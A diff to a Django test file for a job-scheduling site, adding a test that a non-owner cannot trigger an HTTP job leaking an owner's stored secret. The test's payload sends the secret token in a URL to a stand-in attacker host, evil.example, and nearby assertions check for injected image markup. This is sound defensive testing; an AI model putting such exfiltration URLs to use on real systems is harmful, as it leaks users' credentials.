@@ -6,6 +6,7 @@ from datetime import timedelta
 from threading import Event
 
 import pytest
+from cryptography.fernet import Fernet
 from django.urls import reverse
 
 from chronos_site.clock import database_now
@@ -13,6 +14,7 @@ from jobs import memories
 from jobs.executors import TYPES
 from jobs.executors.base import Result
 from jobs.models import Job
+from jobs.vault import Secret
 from runs import drain as drains
 from runs import trials
 from runs.drain import Drainer
@@ -241,3 +243,15 @@ def test_what_a_trial_logs_is_text_on_its_page(client, owner):
     page = client.get(reverse("trial_detail", args=[trial.pk])).content.decode()
     assert "<img src=x" not in page
     assert "\u202e" not in page
+
+
+def test_an_operator_tries_no_job_with_an_owners_secret(client, owner, settings):
+    settings.SECRETS_KEYS = [Fernet.generate_key().decode()]
+    secret = Secret(name="token", owner=owner)
+    secret.hide("s3cr3t")
+    secret.save()
+    said = {"payload-http_method": "GET", "payload-http_url": "https://evil.example/{{ secret:token }}"}
+    data = typed(owner, type="HTTP", shown="HTTP", job=factories.job(owner).pk, **said)
+    page = post(client, factories.bob(), data, hx_request="true").content.decode()
+    assert "own: only they and administrators" in page
+    assert not Trial.objects.exists()
